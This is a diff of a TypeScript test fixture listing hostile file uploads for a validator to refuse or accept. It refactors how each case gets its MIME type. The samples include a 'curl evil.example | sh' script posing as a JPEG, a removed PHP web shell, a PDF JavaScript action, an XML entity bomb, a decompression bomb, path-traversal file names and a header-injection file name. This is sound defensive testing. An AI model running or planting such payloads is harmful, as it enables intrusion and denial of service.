@@ -40,11 +40,7 @@ const noise = await sharp({
 })
   .png()
   .toBuffer();
-const [noisyJpeg, noisyWebp, noisyGif] = await Promise.all([
-  sharp(noise).jpeg().toBuffer(),
-  sharp(noise).webp().toBuffer(),
-  sharp(noise).gif().toBuffer(),
-]);
+const noisyGif = await sharp(noise).gif().toBuffer();
 const many = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: "#fff" } });
 const placed = await plain
   .clone()
@@ -95,106 +91,57 @@ const zip = (name: string) =>
   join("PK\x03\x04\x14\0\0\0\0\0", Buffer.alloc(12), u16(name.length), u16(0), name, PAYLOAD);
 const box = (brand: string) => join("\0\0\0\x18ftyp", brand, "\0\0\0\0", "mif1", brand);
 
-type Case = [what: string, bytes: Buffer, name?: string, type?: string, to?: HostileFile["to"]];
+/** What is sent, under which name; by its ending goes what its sender claims it to be, and where it is sent. */
+type Case = [what: string, bytes: Buffer, name?: string, more?: Partial<Pick<HostileFile, "type" | "to">>];
+
+const TYPES: Readonly<Record<string, string>> = {
+  ...{ svg: "image/svg+xml", jpg: "image/jpeg", gif: "image/gif", webp: "image/webp", tif: "image/tiff" },
+  ...{ bmp: "image/bmp", heic: "image/heic", avif: "image/avif", xml: "text/xml", gz: "application/gzip" },
+  ...{ pdf: "application/pdf", doc: "application/msword", docm: "application/msword" },
+  ...{ docx: "application/octet-stream", xlsx: "application/octet-stream" },
+};
+const DOCUMENTS = ["pdf", "doc", "docm", "docx", "xlsx", "gz"];
 
 const REFUSED: Case[] = [
-  ["a drawing with a script", text(SVG), "a.svg", "image/svg+xml"],
-  ["a drawing with a prolog", text(`<?xml version="1.0"?><!DOCTYPE svg>${SVG}`), "a.svg", "image/svg+xml"],
-  ["a drawing that calls itself PNG", text(SVG), "a.png", "image/png"],
-  ["a drawing with a byte order mark", join("\xef\xbb\xbf", SVG), "a.svg", "image/svg+xml"],
-  ["a drawing in UTF-16", Buffer.from(`\ufeff${SVG}`, "utf16le"), "a.svg", "image/svg+xml"],
-  ["a drawing that is compressed", gzipSync(SVG), "a.svgz", "image/svg+xml"],
-  ["a drawing as a document", text(SVG), "a.pdf", "application/pdf", "document"],
-  ["a drawing that loads another page", text('<svg xmlns:x="x"><use href="//evil.example/a"/></svg>'), "a.svg"],
-  ["a page as JPEG", text(HTML), "a.jpg", "image/jpeg"],
-  ["a page as PNG", text(HTML), "a.png", "image/png"],
-  ["a page as PDF", text(HTML), "a.pdf", "application/pdf", "document"],
-  ["a page that begins as a GIF", join("GIF89a=1;/*", HTML, "*/"), "a.gif", "image/gif"],
-  ["a page that begins as a JPEG", join("\xff\xd8\xff\xe0", HTML), "a.jpg", "image/jpeg"],
-  ["a page after the head of a PNG", join(png.subarray(0, 16), HTML), "a.png", "image/png"],
-  ["a page after the head of a PDF", join("%PDF-1.4\n", HTML), "a.pdf", "application/pdf", "document"],
-  ["a page before a PDF", join(HTML, pdf), "a.pdf", "application/pdf", "document"],
+  ["a drawing with a script", text(SVG), "a.svg"],
+  ["a drawing that calls itself PNG", text(SVG)],
+  ["a drawing with a byte order mark", join("\xef\xbb\xbf", SVG), "a.svg"],
+  ["a drawing in UTF-16", Buffer.from(`\ufeff${SVG}`, "utf16le"), "a.svg"],
+  ["a drawing as a document", text(SVG), "a.pdf"],
+  ["a page as PNG", text(HTML)],
+  ["a page that begins as a GIF", join("GIF89a=1;/*", HTML, "*/"), "a.gif"],
+  ["a page after the head of a PNG", join(png.subarray(0, 16), HTML)],
+  ["a page after the head of a PDF", join("%PDF-1.4\n", HTML), "a.pdf"],
   ["a large PNG by its head", pngOf(60_000, 60_000, Buffer.alloc(1000))],
-  ["a large GIF by its frames", gifOf(5000, 5000, 40), "a.gif", "image/gif"],
-  ["a GIF of very many frames", gifOf(1, 1, 50_000), "a.gif", "image/gif"],
-  ["a large WebP by its head", webpOf(16_384, 16_384), "a.webp", "image/webp"],
-  ["a JPEG of 50 megapixels", await many(10_000, 5000).jpeg().toBuffer(), "a.jpg", "image/jpeg"],
-  ["a PNG of 50 megapixels", await many(10_000, 5000).png().toBuffer()],
-  [
-    "a tall PNG of 50 megapixels as a document",
-    await many(100, 500_000).png().toBuffer(),
-    "a.png",
-    "image/png",
-    "document",
-  ],
+  ["a large GIF by its frames", gifOf(5000, 5000, 40), "a.gif"],
+  ["a large WebP by its head", webpOf(16_384, 16_384), "a.webp"],
+  ["a tall PNG of 50 megapixels as a document", await many(100, 500_000).png().toBuffer(), "a.png", { to: "document" }],
   ["nothing", Buffer.alloc(0)],
   ["a picture without a name", png, ""],
-  ["one byte", text("\x89")],
   ["a PNG that breaks off", noise.subarray(0, 2000)],
-  ["a JPEG that breaks off", noisyJpeg.subarray(0, 800), "a.jpg", "image/jpeg"],
-  ["a WebP that breaks off", noisyWebp.subarray(0, 400), "a.webp", "image/webp"],
-  ["a GIF that breaks off", noisyGif.subarray(0, 900), "a.gif", "image/gif"],
-  ["a PDF that breaks off", pdf.subarray(0, 30), "a.pdf", "application/pdf", "document"],
-  ["a PNG whose pixels are noise", pngOf(40, 40, Buffer.alloc(3)).fill(7, 45, 60)],
-  ["a JPEG that claims to be PNG", jpeg, "a.png", "image/png"],
-  ["a PDF that claims to be a picture", pdf, "a.png", "image/png", "document"],
-  ["a PDF where a picture belongs", pdf, "a.pdf", "application/pdf"],
-  ["a bitmap", join("BM", Buffer.alloc(60, 1)), "a.bmp", "image/bmp"],
-  ["a TIFF", tiff, "a.tif", "image/tiff"],
-  ["a HEIC", join(box("heic"), Buffer.alloc(40)), "a.heic", "image/heic"],
-  ["an AVIF", avif, "a.avif", "image/avif"],
-  ["an icon", join("\0\0\x01\0\x01\0", Buffer.alloc(40)), "a.ico", "image/x-icon"],
-  ["a program of Windows", join("MZ\x90\0\x03\0", Buffer.alloc(80)), "a.png", "image/png"],
-  ["a program of Linux", join("\x7fELF\x02\x01\x01", Buffer.alloc(80)), "a.pdf", "application/pdf", "document"],
-  ["a shell script", text("#!/bin/sh\ncurl evil.example | sh\n"), "a.jpg", "image/jpeg"],
-  ["a PHP script", text("<?php system($_GET['c']); ?>"), "a.php.png", "image/png"],
-  ["a Java archive", zip("META-INF/MANIFEST.MF"), "a.jar", "application/java-archive", "document"],
-  ["an office file with macros", zip("word/vbaProject.bin"), "a.docm", "application/msword", "document"],
-  [
-    "an old office file",
-    join("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", Buffer.alloc(600)),
-    "a.doc",
-    "application/msword",
-    "document",
-  ],
-  ["an archive as a picture", zip("a.html"), "a.png", "image/png"],
-  ["an archive that grows", gzipSync(Buffer.alloc(20 * MB)), "a.gz", "application/gzip", "document"],
-  [
-    "entities that multiply",
-    text(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>`),
-    "a.xml",
-    "text/xml",
-  ],
-  [
-    "a PDF with JavaScript",
-    pdfOf("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
-    "a.pdf",
-    "application/pdf",
-    "document",
-  ],
-  [
-    "a PDF with disguised JavaScript",
-    pdfOf("/OpenAction<</S/J#61vaScript/J#53(x)>>"),
-    "a.pdf",
-    "application/pdf",
-    "document",
-  ],
-  ["a PDF that starts a program", pdfOf("/OpenAction<</S/Launch/F(cmd.exe)>>"), "a.pdf", "application/pdf", "document"],
-  ["a PDF with a file in it", pdfOf("/Names<</EmbeddedFiles 2 0 R>>"), "a.pdf", "application/pdf", "document"],
-  ["a PDF with a page after it", join(pdf, HTML.repeat(40)), "a.pdf", "application/pdf", "document"],
+  ["a GIF that breaks off", noisyGif.subarray(0, 900), "a.gif"],
+  ["a PDF that breaks off", pdf.subarray(0, 30), "a.pdf"],
+  ["a JPEG that claims to be PNG", jpeg],
+  ["a PDF that claims to be a picture", pdf, "a.png", { to: "document" }],
+  ["a PDF where a picture belongs", pdf, "a.pdf", { to: "picture" }],
+  ["a bitmap", join("BM", Buffer.alloc(60, 1)), "a.bmp"],
+  ["a TIFF", tiff, "a.tif"],
+  ["a HEIC", join(box("heic"), Buffer.alloc(40)), "a.heic"],
+  ["an AVIF", avif, "a.avif"],
+  ["a program of Windows", join("MZ\x90\0\x03\0", Buffer.alloc(80))],
+  ["a shell script", text("#!/bin/sh\ncurl evil.example | sh\n"), "a.jpg"],
+  ["an office file with macros", zip("word/vbaProject.bin"), "a.docm"],
+  ["an old office file", join("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", Buffer.alloc(600)), "a.doc"],
+  ["an archive as a picture", zip("a.html")],
+  ["an archive that grows", gzipSync(Buffer.alloc(20 * MB)), "a.gz"],
+  ["entities that multiply", text('<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'), "a.xml"],
+  ["a PDF with JavaScript", pdfOf("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "a.pdf"],
+  ["a PDF with a page after it", join(pdf, HTML.repeat(40)), "a.pdf"],
   ["a picture of one byte too much", join(png, Buffer.alloc(10 * MB + 1 - png.length))],
-  [
-    "a document of one byte too much",
-    join(Buffer.alloc(0), pdf, Buffer.alloc(20 * MB + 1 - pdf.length)),
-    "a.pdf",
-    "application/pdf",
-    "document",
-  ],
+  ["a document of one byte too much", join(pdf, Buffer.alloc(20 * MB + 1 - pdf.length)), "a.pdf"],
 ];
 
-const OFFICE = Object.entries(HOSTILE_OFFICE).map(
-  ([what, [bytes, name = "a.docx"]]): Case => [what, bytes, name, "application/octet-stream", "document"],
-);
+const OFFICE = Object.entries(HOSTILE_OFFICE).map(([what, [bytes, name = "a.docx"]]): Case => [what, bytes, name]);
 
 const TAKEN: [mime: string, ...Case][] = [
   ["image/png", "a PNG with a page after it", join(png, HTML)],
@@ -209,34 +156,27 @@ const TAKEN: [mime: string, ...Case][] = [
     pngOf(1, 1, Buffer.alloc(2), chunk("zTXt", join("a\0\0", deflateSync(Buffer.alloc(50 * MB))))),
   ],
   ["image/png", "a PNG whose pixels grow", pngOf(10, 10, Buffer.alloc(50 * MB))],
-  ["image/png", "a PNG with a page as a document", join(png, HTML), "a.png", "image/png", "document"],
-  ["image/jpeg", "a JPEG with an archive after it", join(jpeg, zip("a.html")), "a.jpg", "image/jpeg"],
-  ["image/jpeg", "a JPEG with a page, a script and a place in it", placed, "a.jpg", "image/jpeg"],
-  ["image/gif", "a GIF with a Java archive after it", join(gif, zip("META-INF/MANIFEST.MF")), "a.gif", "image/gif"],
-  ["image/webp", "a WebP with a page after it", join(webp, HTML), "a.webp", "image/webp"],
+  ["image/jpeg", "a JPEG with an archive after it", join(jpeg, zip("a.html")), "a.jpg"],
+  ["image/jpeg", "a JPEG with a page, a script and a place in it", placed, "a.jpg"],
+  ["image/gif", "a GIF with a Java archive after it", join(gif, zip("META-INF/MANIFEST.MF")), "a.gif"],
+  ["image/webp", "a WebP with a page after it", join(webp, HTML), "a.webp"],
   ["image/png", "a name that leads elsewhere", png, "../../../etc/passwd.png"],
-  ["image/png", "a name from the root", png, "/etc/cron.d/x.png"],
   ["image/png", "a name of Windows", png, "C:\\Windows\\system32\\x.png"],
   ["image/png", "a name with a NUL", png, "a.php\0.png"],
   ["image/png", "a name that turns its direction", png, "gpj.\u202Egnp.exe"],
   ["image/png", "a name of 300 letters", png, `${"a".repeat(300)}.png`],
   ["image/png", "a name of odd letters at its end", png, `${"a".repeat(99)}${"😀".repeat(9)}.png`],
   ["image/png", "a name of a device", png, "CON.png"],
-  ["image/png", "a name of settings", png, ".htaccess"],
-  ["image/png", "a name with two endings", png, "invoice.pdf.exe"],
   ["image/png", "a name with quotes and lines", png, 'a"\r\nSet-Cookie: x=1.png'],
   ["image/png", "a name that is a script", png, `${PAYLOAD}.png`],
-  ["image/jpeg", "another ending", jpeg, "a.png", "application/octet-stream"],
-  ["image/png", "a claim of a page", png, "a.html", "text/html"],
+  ["image/jpeg", "another ending", jpeg, "a.png", { type: "application/octet-stream" }],
 ];
 
-const build = ([what, bytes, name = "a.png", type = "image/png", to = "picture"]: Case): HostileFile => ({
-  what,
-  bytes,
-  name,
-  type,
-  to,
-});
+const build = ([what, bytes, name = "a.png", more = {}]: Case): HostileFile => {
+  const ending = name.split(".").at(-1) ?? "";
+  const to = DOCUMENTS.includes(ending) ? "document" : "picture";
+  return { what, bytes, name, type: TYPES[ending] ?? "image/png", to, ...more };
+};
 
 /** Files that somebody might send to do harm, or by mistake. */
 export const HOSTILE_FILES: readonly HostileFile[] = [
